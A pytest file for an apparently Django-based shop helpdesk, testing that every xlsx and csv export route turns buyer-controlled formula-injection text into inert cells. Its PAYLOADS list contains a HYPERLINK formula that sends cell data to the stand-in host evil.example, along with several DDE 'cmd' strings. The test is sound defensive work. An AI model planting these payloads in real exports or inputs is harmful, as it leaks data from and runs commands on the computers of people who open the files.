"""Every export route, fed a buyer-controlled text that a spreadsheet would run as a
formula, hands out a file in which that cell is inert text (docs/spreadsheets.md)."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from accounts.models import Shop
from accounts.roles import Role
from orders.jobs import problem_digest
from orders.models import Buyer, ProblemDigest
from reviews.services import evidence_select, review_mark_extortion
from scripts_lib.models import ReplyScript
from tests.factories import at, make_buyer, make_order
from tests.orders.factories import make_problem
from tests.reviews.factories import make_conversation, make_message, make_review
from tests.scripts_lib.factories import make_script
from tests.tickets.factories import make_ticket
from tickets.states import TicketType

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我退款")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_xlsx(data: bytes, payload: str) -> None:
    cells = _xlsx_cells(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # XML turns a bare CR into LF on reading: compare what the cell holds after that
    expected = "'" + payload.replace("\r", "\n")
    found = [cell for cell in cells if cell.value == expected]
    assert found, f"no inert cell holding {payload!r}"
    assert all(cell.data_type == "s" for cell in found)


def assert_inert_csv(data: bytes, payload: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + payload in cells
    assert payload not in cells


def _buyer(shop, payload) -> Buyer:
    return make_buyer(shop, nick=payload)


def digest_xlsx(client, shop, staff, now, payload):
    make_problem(shop, now, order=make_order(shop, buyer=_buyer(shop, payload)))
    problem_digest(shop=shop, now=now)
    pk = ProblemDigest.objects.get(shop=shop).pk
    return client(staff[Role.IN_SALE]).get(reverse("orders:digest_xlsx", args=[pk])).content


def ticket_register(slug, ticket_type):
    def export(client, shop, staff, now, payload):
        order = make_order(shop, buyer=_buyer(shop, payload))
        make_ticket(shop, ticket_type, now, order=order, description=payload)
        url = reverse("tickets:register", args=[slug])
        return client(staff[Role.AFTER_SALE]).get(url, {"format": "xlsx"}).content

    return export


def review_register(client, shop, staff, now, payload):
    make_review(shop, buyer=_buyer(shop, payload), text=payload)
    return client(staff[Role.MANAGER]).get(reverse("reviews:register_xlsx")).content


def _extortion_case(shop, staff, now, payload):
    buyer = _buyer(shop, payload)
    review = make_review(shop, buyer=buyer)
    chat = make_conversation(shop, buyer, when=at(2026, 11, 20, 9, 0))
    message = make_message(chat, payload, when=at(2026, 11, 20, 9, 1))
    specialist = staff[Role.REVIEW_SPECIALIST]
    review = review_mark_extortion(actor=specialist, review=review, note="要挟", now=now)
    evidence_select(actor=specialist, review=review, message_ids=[message.pk], now=now)
    return review


def _messages_csv(response) -> bytes:
    return zipfile.ZipFile(io.BytesIO(response.content)).read("messages.csv")


def evidence_pack_page(client, shop, staff, now, payload):
    review = _extortion_case(shop, staff, now, payload)
    url = reverse("reviews:evidence_pack", args=[review.pk])
    return _messages_csv(client(staff[Role.REVIEW_SPECIALIST]).get(url))


def evidence_pack_api(client, shop, staff, now, payload):
    review = _extortion_case(shop, staff, now, payload)
    url = reverse("api-review-evidence-pack", args=[review.pk])
    return _messages_csv(client(staff[Role.REVIEW_SPECIALIST]).get(url))


def script_export(file_format):
    def export(client, shop, staff, now, payload):
        script = make_script(shop.team, shop, code="inj", title="标题", body="您好，亲")
        # saving strips the title's spaces; the export must be safe whatever a row holds
        ReplyScript.objects.filter(pk=script.pk).update(title=payload)
        params = {"shop": shop.code, "format": file_format}
        return client(staff[Role.SUPERVISOR]).get(reverse("scripts_lib:export"), params).content

    return export


def knowledge_export(file_format):
    def export(client, shop, staff, now, payload):
        from knowledge.models import KnowledgeEntry

        KnowledgeEntry.objects.create(
            shop=shop, key="k1", question=payload, answer="您好，亲", created_at=now, updated_at=now
        )
        url = reverse("knowledge:export", args=[shop.code])
        return client(staff[Role.SUPERVISOR]).get(url, {"format": file_format}).content

    return export


def kpi_day(client, shop, staff, now, payload):
    Shop.objects.filter(pk=shop.pk).update(name=payload)
    url = reverse("kpi:export")
    return client(staff[Role.MANAGER]).get(url, {"shop": shop.code, "date": "2026-11-22"}).content


EXPORTS = {
    "orders:digest_xlsx": (digest_xlsx, assert_inert_xlsx),
    "tickets:register damage": (ticket_register("damage", TicketType.DAMAGED), assert_inert_xlsx),
    "tickets:register returns": (
        ticket_register("returns", TicketType.RETURN_REFUND),
        assert_inert_xlsx,
    ),
    "reviews:register_xlsx": (review_register, assert_inert_xlsx),
    "reviews:evidence_pack": (evidence_pack_page, assert_inert_csv),
    "api-review-evidence-pack": (evidence_pack_api, assert_inert_csv),
    "scripts_lib:export xlsx": (script_export("xlsx"), assert_inert_xlsx),
    "scripts_lib:export csv": (script_export("csv"), assert_inert_csv),
    "kpi:export": (kpi_day, assert_inert_xlsx),
    "knowledge:export xlsx": (knowledge_export("xlsx"), assert_inert_xlsx),
    "knowledge:export csv": (knowledge_export("csv"), assert_inert_csv),
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("route", EXPORTS)
def test_buyer_text_is_inert_in_every_export(route, payload, login, shop, staff, now):
    produce, assert_inert = EXPORTS[route]
    assert_inert(produce(login, shop, staff, now, payload), payload)


EXPORT_ROUTE = re.compile(r"\.(xlsx|csv|zip)$|export|register|evidence-pack")
NOT_EXPORTS = {
    "tickets:import_sample",  # a fixed sample file shipped with the code
    "reviews:import_sample",
    "orders:import_sample",
    "orders:import_items_sample",
    "reviews:register",  # the register page; its download is reviews:register_xlsx
}


def test_every_export_route_is_covered_above():
    """A new export route must join EXPORTS (or say why it exports no user text)."""
    found = set()

    def walk(patterns, prefix="", namespace=""):
        for entry in patterns:
            if hasattr(entry, "url_patterns"):
                inner = ":".join(filter(None, [namespace, entry.namespace or ""]))
                walk(entry.url_patterns, prefix + str(entry.pattern), inner)
            elif entry.name and EXPORT_ROUTE.search(prefix + str(entry.pattern)):
                found.add(f"{namespace}:{entry.name}" if namespace else entry.name)

    walk(get_resolver().url_patterns)
    covered = {route.split(" ")[0] for route in EXPORTS}
    assert found - NOT_EXPORTS == covered


PRODUCT_DIRS = ["accounts", "approvals", "audit", "chats", "helpdesk", "kpi", "orders"]
PRODUCT_DIRS += ["outreach", "reviews", "scripts_lib", "tickets", "knowledge", "teamwork"]
OTHER_WRITERS = re.compile(r"csv\.writer|csv\.reader|csv\.Dict|openpyxl|load_workbook")
# bulk.py writes the import's staging rows for PostgreSQL COPY, never a file for a person
ALLOWED = {"helpdesk/spreadsheets/reading.py", "helpdesk/spreadsheets/writing.py"}
ALLOWED.add("orders/importing/bulk.py")


def test_no_spreadsheet_is_read_or_written_outside_helpdesk_spreadsheets():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for directory in PRODUCT_DIRS
        for path in (root / directory).rglob("*.py")
        if OTHER_WRITERS.search(path.read_text(encoding="utf-8"))
        and str(path.relative_to(root)) not in ALLOWED
        and "/migrations/" not in str(path)
    ]
    assert offenders == []
